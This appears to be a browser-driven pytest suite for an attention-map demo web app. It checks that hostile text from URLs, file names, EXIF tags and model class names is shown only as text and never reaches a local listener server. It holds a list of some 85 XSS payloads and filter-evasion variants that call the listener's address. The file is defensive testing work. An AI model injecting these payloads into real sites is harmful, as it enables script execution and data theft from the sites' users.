"""Text from strangers in a real browser: it stays text, and a listener beside the page hears nothing."""

from __future__ import annotations

import http.server
import io
import json
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from threading import Thread
from typing import Any
from urllib.parse import quote, urlencode, urlsplit

import httpx
import pytest
from PIL import Image

import vitattn_widgets as va
from vitattn_widgets.demo.controls import DEFAULTS
from vitattn_widgets.demo.routes import PREFIX
from vitattn_widgets.demo.service import safe_name

from .. import model_zoo
from ..conftest import noise_photo
from ..lab import CHROMIUM, running_browser
from .lab import Visitor, png, running_page

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here; install it with apt install chromium")

PAYLOADS = (
    "<img src=//{host}/{n}>",
    "<img src=x onerror=\"fetch('//{host}/{n}')\">",
    "<script src=//{host}/{n}></script>",
    "<script>fetch('//{host}/{n}')</script>",
    "<form action=//{host}/{n}><input name=p type=password autofocus></form>",
    "<iframe src=//{host}/{n}></iframe>",
    "<iframe srcdoc='<img src=//{host}/{n}>'></iframe>",
    "<svg onload=\"fetch('//{host}/{n}')\"><image href=//{host}/{n} /></svg>",
    "<link rel=stylesheet href=//{host}/{n}>",
    "<style>@import '//{host}/{n}';</style>",
    "<b style=\"background:url(//{host}/{n})\">bold</b>",
    "<base href=//{host}/{n}/>",
    '<meta http-equiv=refresh content="0;url=//{host}/{n}">',
    "<object data=//{host}/{n}></object><embed src=//{host}/{n}>",
    "<video poster=//{host}/{n} src=//{host}/{n}></video>",
    "<a href=//{host}/{n} ping=//{host}/{n}>log in again</a>",
    "\"><input type=image src=//{host}/{n}>",
    "'\" onfocus=fetch('//{host}/{n}') autofocus x='",
    "</textarea></title></style></script><img src=//{host}/{n}>",
    "![map](http://{host}/{n})",
    "[log in](javascript:fetch('//{host}/{n}'))",
    "${{fetch('//{host}/{n}')}} {{{{fetch('//{host}/{n}')}}}}",
    "url(//{host}/{n})",
    "&lt;img src=//{host}/{n}&gt;<details open ontoggle=fetch('//{host}/{n}')>",
    "<ScRiPt SrC=//{host}/{n}></sCrIpT>",
    "<script/src=//{host}/{n}></script>",
    "<script\tsrc=//{host}/{n}\n></script>",
    "<scr<script>ipt>fetch('//{host}/{n}')</scr</script>ipt>",
    "<script type=module>import '//{host}/{n}'</script>",
    "<script>import('//{host}/{n}')//",
    "</script><script>fetch('//{host}/{n}')</script>",
    "<img/src=//{host}/{n}>",
    "<img src=x onerror=fetch`//{host}/{n}`>",
    "<img srcset='//{host}/{n} 2x'>",
    "<img src=`//{host}/{n}`>",
    "<img src=//{host}/{n} <b>",
    "<<img src=//{host}/{n}>>",
    "<image src=//{host}/{n}>",
    "<picture><source srcset=//{host}/{n}><img></picture>",
    "<audio src=//{host}/{n} autoplay></audio>",
    "<video><source onerror=fetch('//{host}/{n}')></video>",
    "<track src=//{host}/{n} default>",
    "<body onload=fetch('//{host}/{n}') background=//{host}/{n}>",
    "<frameset><frame src=//{host}/{n}></frameset>",
    "<iframe src=javascript:fetch('//{host}/{n}')>",
    "<iframe src='data:text/html,<img src=//{host}/{n}>'>",
    "<object data='data:text/html,<img src=//{host}/{n}>'>",
    "<embed src=javascript:fetch('//{host}/{n}')>",
    "<form><button formaction=//{host}/{n}>go",
    "<input onfocus=fetch('//{host}/{n}') autofocus>",
    "<select autofocus onfocus=fetch('//{host}/{n}')>",
    "<textarea autofocus onfocus=fetch('//{host}/{n}')>",
    "<isindex type=image src=//{host}/{n}>",
    "<marquee onstart=fetch('//{host}/{n}')>x</marquee>",
    "<svg><script href=//{host}/{n} /></svg>",
    "<svg><use href=//{host}/{n}#x /></svg>",
    "<svg><animate onbegin=fetch('//{host}/{n}') attributeName=x dur=1s>",
    "<svg><style>@import url(//{host}/{n})</style></svg>",
    "<math><mtext><img src=//{host}/{n}></mtext></math>",
    "<math href=javascript:fetch('//{host}/{n}')>x</math>",
    "<template shadowrootmode=open><img src=//{host}/{n}></template>",
    "<noscript><p title='</noscript><img src=//{host}/{n}>'>",
    "<xmp><img src=//{host}/{n}></xmp><plaintext>",
    "<link rel=prefetch href=//{host}/{n}>",
    "<link rel=preload as=image href=//{host}/{n}>",
    "<meta http-equiv=Content-Security-Policy content=''><img src=//{host}/{n}>",
    "<style>b{{background:url(//{host}/{n})}}</style>",
    "<p style=\"list-style:url('//{host}/{n}')\">x",
    "<table background=//{host}/{n}><td background=//{host}/{n}>",
    "-->\"'><img src=//{host}/{n}><!--",
    "]]><img src=//{host}/{n}>",
    "&#60;img src=//{host}/{n}&#62;",
    "%3Cimg%20src=//{host}/{n}%3E",
    "\\u003cimg src=//{host}/{n}\\u003e",
    "\\x3cimg src=//{host}/{n}\\x3e",
    "\u202e<img src=//{host}/{n}>",
    "\ufeff<img src=//{host}/{n}>",
    "`-fetch('//{host}/{n}')-`",
    "';fetch('//{host}/{n}');'",
    "</style><img src=//{host}/{n}>",
    "javascript:fetch('//{host}/{n}')",
    "data:text/html,<script>fetch('//{host}/{n}')</script>",
    "![x](//{host}/{n} \"t\") <http://{host}/{n}>",
    "{{{{constructor.constructor('fetch(`//{host}/{n}`)')()}}}}",
)  # fmt: skip

TAGS = (0x010E, 0x010F, 0x0131, 0x013B, 0x8298)
"""Of EXIF: description, make, software, artist, copyright."""

FOREIGN = """(host) => {
    const loading = /^(src|href|xlink:href|srcset|data|poster|background|action|formaction|ping|style|content|srcdoc)$/;
    const bad = [];
    for (const one of document.querySelectorAll("*")) {
        for (const { name, value } of one.attributes) {
            if (name.startsWith("on") || (loading.test(name) && value.includes(host))) bad.push(one.outerHTML);
        }
    }
    return bad.concat([...document.querySelectorAll("iframe, object, embed, form, [type=password]")]
        .map((one) => one.outerHTML));
}"""


@dataclass
class Listener:
    """A server of somebody else.

    Attributes:
        host: its address.
        heard: the paths that were asked of it.
    """

    host: str
    heard: list[str] = field(default_factory=list)
    number: int = 0

    def payload(self, index: int) -> str:
        """One of `PAYLOADS`, with an address of its own at this server."""
        self.number += 1
        return PAYLOADS[index % len(PAYLOADS)].format(host=self.host, n=self.number)


@contextmanager
def running_listener() -> Iterator[Listener]:
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            listener.heard.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_HEAD = do_OPTIONS = do_GET

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    listener = Listener(f"127.0.0.1:{server.server_port}")
    Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield listener
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    with running_listener() as listener:
        httpx.get(f"http://{listener.host}/here", trust_env=False)
        assert listener.heard == ["/here"]  # it would hear
        listener.heard.clear()
        yield listener


@pytest.fixture(scope="module")
def evil_model(listener: Listener) -> va.models.AttentionModel:
    """A model from a stranger's checkpoint: its name and its classes are payloads."""
    module = model_zoo.build("vit", model_zoo.WIDE)
    module.reset_classifier(len(PAYLOADS))
    module.head.weight.data.normal_(0, 0.3)
    model = va.load_model(module)
    return replace(model, name=listener.payload(0), class_names=tuple(map(listener.payload, range(len(PAYLOADS)))))


@pytest.fixture(scope="module")
def served(evil_model, tmp_path_factory: pytest.TempPathFactory):
    with running_page(evil_model, tmp_path_factory.mktemp("gradio")) as (address, page), running_browser() as browser:
        yield address, browser, page


@pytest.fixture
def visitor(served, listener: Listener):
    visitor = Visitor(served[1], served[0])
    yield visitor
    visitor.page.wait_for_timeout(300)
    assert_only_text(visitor, listener)
    hosts = {urlsplit(address).netloc for _, address in visitor.requests if address.startswith("http")}
    assert hosts == {urlsplit(served[0]).netloc}
    visitor.close()


def assert_only_text(visitor: Visitor, listener: Listener) -> None:
    assert visitor.page.evaluate(FOREIGN, listener.host) == []
    assert listener.heard == []


def test_what_a_link_says_stays_text(visitor: Visitor, listener: Listener) -> None:
    names = ["model", "sample", "panels", "difference", *DEFAULTS, "deep_link", "__theme", "q"]
    for start in range(0, len(PAYLOADS), len(names)):
        link = {name: listener.payload(start + number) for number, name in enumerate(names)}
        visitor.look(f"?{urlencode(link)}")
        message = visitor.message()
        for name in ("model", "sample", "aggregation", "cmap"):  # said, as text
            assert repr(link[name])[:12] in message
        assert_only_text(visitor, listener)


def test_what_a_panel_of_a_link_says_stays_text(visitor: Visitor, listener: Listener, evil_model) -> None:
    whole = {"model": evil_model.name, "picture": "chelsea"}
    fields = ("model", "picture", "source", "query", "target", "head", "aggregation", "sinks")
    others = [{name: listener.payload(index) for name in fields} for index in range(len(PAYLOADS))]
    for number, name in enumerate(fields):
        panels = [whole | {name: listener.payload(10 * number)}, *others[10 * number : 10 * number + 11]]
        visitor.look(f"?{urlencode({'panels': json.dumps(panels)})}")
        assert "the comparison cannot be shown" in visitor.message()
        assert_only_text(visitor, listener)


def test_names_of_files_stay_text(visitor: Visitor, listener: Listener) -> None:
    visitor.look()
    exif = Image.Exif()
    for index in range(len(PAYLOADS)):
        payload = listener.payload(index)
        name = payload.replace("/", "∕")  # a folder's separator would cut the name
        visitor.paste(b"no picture", f"{payload}.png")
        assert "not a picture of a known type" in visitor.message()
        visitor.page.get_by_role("button", name="Close this message").click()
        exif[TAGS[index % len(TAGS)]] = payload
        if len(exif) == len(TAGS) or index == len(PAYLOADS) - 1:
            stream = io.BytesIO()
            Image.fromarray(noise_photo((60, 90), index)).save(stream, "PNG", exif=exif)
            visitor.paste(stream.getvalue(), f"{name}.png")
            visitor.wait_until(picture=safe_name(f"{name}.png"))
            exif = Image.Exif()


def test_names_of_classes_and_models_stay_text(visitor: Visitor, evil_model) -> None:
    visitor.look("?source=gradient_late&target=3")
    page = visitor.page
    page.get_by_role("tab", name="What did it use?").click()
    page.get_by_text("More", exact=True).click()
    page.get_by_text("Expert", exact=True).click()
    for drawer in ("Compare", "Keep", "Check"):
        page.get_by_role("button", name=drawer, exact=True).click()
    page.get_by_role("button", name="Check this map").click()
    page.locator(".va-result-class").wait_for(timeout=30000)
    search, found = page.get_by_label("Search a class"), set()
    for name in evil_model.class_names:
        search.fill(name)
        found.update(page.locator(".va-viewer").inner_text().splitlines())
    assert sum(any(name in line for line in found) for name in evil_model.class_names) > 60  # said, as text


def test_the_api_page_shows_a_link_and_a_model_as_text(visitor: Visitor, listener: Listener) -> None:
    visitor.look(f"?{urlencode({'cmap': listener.payload(0)})}")
    visitor.page.get_by_role("button", name="Use via API").click()
    visitor.page.get_by_text("gradio_client").first.wait_for(timeout=20000)


def test_no_answer_of_a_route_is_a_page(served, listener: Listener) -> None:
    """Opened in a window of its own, an answer with a payload in it is not read as HTML."""
    photo = png(noise_photo((9, 9)))
    with httpx.Client(base_url=served[0], timeout=60) as program:
        for payload in map(listener.payload, range(len(PAYLOADS))):
            at, api = f"/{PREFIX}", "/gradio_api"
            for answer in (
                program.post(f"{at}/upload", params={"name": payload, "model": payload}, content=photo),
                program.post(f"{at}/check", json={"model": payload, "settings": {"cmap": payload}}),
                program.post(f"{at}/file", json={"model": payload, "sample": payload, "what": payload}),
                program.post(f"{at}/more", json={"model": payload, "request": {"need": payload}}),
                program.get(f"{at}/capsule", params={"model": payload, "sample": payload}),
                program.get(f"{at}/open", params={"cmap": payload}),
                program.post(f"{api}/call/map", json={"data": [payload] * 5}),
                program.post(f"{api}/call/v2/map", json={payload: payload}),
                program.post(f"{api}/call/v2/{quote(payload, safe='')}", json={}),
                program.get(f"{api}/file={quote(payload, safe='')}"),
            ):
                assert answer.headers["Content-Type"] == "application/json", answer.request.url
                assert answer.headers["X-Content-Type-Options"] == "nosniff"


def test_the_login_page_shows_no_text_of_a_visitor(wide_model, tmp_path, served, listener: Listener) -> None:
    with running_page(wide_model, tmp_path / "gradio", auth=[("class", "secret")]) as (address, _):
        visitor = Visitor(served[1], address)
        visitor.page.goto(f"{address}/?{urlencode({'cmap': listener.payload(4)})}")
        visitor.page.get_by_label("username").fill(listener.payload(1))
        visitor.page.get_by_label("password").fill(listener.payload(0))
        visitor.page.get_by_role("button", name="Login").click()
        visitor.page.get_by_text("Incorrect").first.wait_for(timeout=20000)
        bad: list[Any] = visitor.page.evaluate(FOREIGN, listener.host)
        assert [html for html in bad if 'type="password"' not in html and "<form" not in html] == []
        assert listener.heard == []
        visitor.close()
